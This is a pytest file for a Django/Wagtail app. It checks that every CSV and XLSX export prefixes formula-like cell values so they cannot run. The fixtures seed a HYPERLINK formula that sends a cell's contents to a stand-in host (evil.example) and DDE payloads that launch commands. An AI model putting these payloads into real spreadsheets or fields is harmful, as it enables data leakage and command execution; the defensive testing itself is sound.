"""No spreadsheet Sayso hands out can run a formula: every CSV and XLSX, downloaded for real.

A storyteller chooses her pseudonym and can write her story's title; editors type
descriptions and payment references. Each is seeded here with a formula, and every report
and list export is downloaded as CSV and as XLSX and read back cell by cell.
"""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import openpyxl
import pytest
from django.contrib.auth.models import Group
from django.test import Client
from django.urls import reverse
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from advisory import services as advisory_services
from advisory.models import ADVISORY_GROUP, AdvisoryReviewTaskState
from compensation import services as compensation_services
from compensation.models import PaymentMethod
from consent import services
from consent.selectors import today
from workspace.spreadsheets import FORMULA_STARTS, neutralise_cell

from tests.conftest import approve, make_storyteller
from tests.money import agree, pay

pytestmark = pytest.mark.django_db

PSEUDONYM = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"
DESCRIPTION = "+cmd|' /C calc'!A0"
REFERENCE = "-2+3"
CAMPAIGN = "\t=1+1"
MEMBER = "\r=HYPERLINK(1)"
# Characters XML cannot hold; left in, they stopped the XLSX download with a 500.
CONTROL = "Spring\x0bpanel\x01"


@pytest.fixture
def hostile(make_story, make_campaign_in_advisory_review, review_workflow, editor):
    """Every field an export shows, filled with a formula, and a correction of a payment."""
    storyteller = make_storyteller(PSEUDONYM, "hostile")
    story = make_story(storyteller, slug="hostile", title=TITLE)
    review_workflow.start(story, editor)
    services.open_review(story)
    approve(story, storyteller, channels=("website", "press"))
    story.get_latest_revision().publish()
    agreement = agree(storyteller, editor, "40.00", description=DESCRIPTION)
    payment = pay(
        agreement,
        editor,
        "45.00",
        paid_on=today() - timedelta(days=1),
        method=PaymentMethod.BANK_TRANSFER,
        reference=REFERENCE,
    )
    compensation_services.reverse_payment(
        payment=payment, amount=Decimal("20.00"), reason="Paid twice", recorded_by=editor
    )

    agree(storyteller, editor, "10.00", description=CONTROL)

    member = make_storyteller(MEMBER, "hostile-member")
    member.user.groups.add(Group.objects.get(name=ADVISORY_GROUP))
    campaign = make_campaign_in_advisory_review(story, title=CAMPAIGN, slug="hostile-campaign")
    review = AdvisoryReviewTaskState.objects.get(workflow_state__object_id=str(campaign.pk))
    advisory_services.approve_campaign(review=review, user=member.user)
    return story


def downloaded(client, url, export_format):
    response = client.get(url, {"export": export_format})
    assert response.status_code == 200, url
    body = b"".join(response.streaming_content)
    if export_format == "csv":
        return list(csv.reader(io.StringIO(body.decode("utf-8"))))
    book = openpyxl.load_workbook(io.BytesIO(body))
    return [list(row) for row in book.active.iter_rows(values_only=True)]


def cells(table):
    return [cell for row in table[1:] for cell in row]


def assert_no_formula_can_run(table):
    for cell in cells(table):
        if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
            # The one exception: an amount formatted for reading, such as "-£20.00".
            assert neutralise_cell(cell) == cell and cell.startswith("-£"), repr(cell)


SAYSO_EXPORTS = {
    "workspace_consent_ledger": [PSEUDONYM, TITLE],
    "workspace_turnaround": [TITLE, PSEUDONYM],
    "workspace_compensation": [PSEUDONYM, DESCRIPTION],
    "workspace_advisory_reviews": [CAMPAIGN, MEMBER],
    "compensation_agreements:index": [PSEUDONYM],
    "compensation_payments:index": [PSEUDONYM, REFERENCE],
}


def test_every_sayso_export_writes_hostile_text_as_text(superuser, hostile):
    client = Client()
    client.force_login(superuser)

    for name, seeded in SAYSO_EXPORTS.items():
        for export_format in ("csv", "xlsx"):
            table = downloaded(client, reverse(name), export_format)

            assert_no_formula_can_run(table)
            for value in seeded:
                if export_format == "xlsx":
                    value = value.replace("\r", "\n")  # XML reads a lone CR back as LF
                assert "'" + value in cells(table), (name, export_format, value, table)


WAGTAIL_REPORTS = [
    "wagtailadmin_reports:site_history",
    "wagtailadmin_reports:workflow",
    "wagtailadmin_reports:workflow_tasks",
    "wagtailadmin_reports:aging_pages",
]


def test_wagtails_own_reports_write_a_hostile_title_as_text(superuser, hostile):
    client = Client()
    client.force_login(superuser)

    for name in WAGTAIL_REPORTS:
        for export_format in ("csv", "xlsx"):
            table = downloaded(client, reverse(name), export_format)

            assert_no_formula_can_run(table)
            hostile_cells = [
                cell
                for cell in cells(table)
                if isinstance(cell, str) and (TITLE in cell or CAMPAIGN in cell)
            ]
            assert hostile_cells, (name, export_format, table)
            assert all(cell.startswith("'") for cell in hostile_cells), hostile_cells


def test_characters_a_workbook_cannot_hold_are_left_out_of_it(superuser, hostile):
    client = Client()
    client.force_login(superuser)
    url = reverse("workspace_compensation")

    assert "Springpanel" in cells(downloaded(client, url, "xlsx"))
    assert CONTROL in cells(downloaded(client, url, "csv"))


def test_amounts_stay_amounts_and_negative_corrections_read_as_they_did(superuser, hostile):
    client = Client()
    client.force_login(superuser)
    url = reverse("compensation_payments:index")

    as_csv = downloaded(client, url, "csv")
    as_xlsx = downloaded(client, url, "xlsx")

    amounts = {row[4] for row in as_csv[1:]}
    assert amounts == {"£45.00", "-£20.00"}
    assert {row[4] for row in as_xlsx[1:]} == amounts
    ledger = downloaded(client, reverse("workspace_consent_ledger"), "xlsx")
    assert all(isinstance(row[0], int) for row in ledger[1:])


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-£5.00", "-£5.00"),
        ("-NGN\u00a05,000.00", "-NGN\u00a05,000.00"),
        ("-5,00\u00a0€", "-5,00\u00a0€"),
        ("-1e5", "'-1e5"),
        ("-£5+cmd", "'-£5+cmd"),
        ("Amara", "Amara"),
        ("", ""),
        (-3, -3),
        (Decimal("-2.50"), Decimal("-2.50")),
        (None, None),
    ],
)
def test_the_one_rule_for_a_cell(value, written):
    assert neutralise_cell(value) == written


def all_subclasses(cls):
    for subclass in cls.__subclasses__():
        yield subclass
        yield from all_subclasses(subclass)


def test_no_export_view_writes_its_cells_around_the_rule():
    """Every exporting view, Sayso's and Wagtail's, writes cells through the one wrapped seam."""
    wrapped = SpreadsheetExportMixin.preprocess_field_value
    assert getattr(wrapped, "neutralises_formulas", False)
    views = list(all_subclasses(SpreadsheetExportMixin))
    assert len(views) > 5
    for view in views:
        assert view.preprocess_field_value is wrapped, view
        for method in ("write_csv_row", "generate_xlsx_row"):
            assert getattr(view, method) is getattr(SpreadsheetExportMixin, method), view
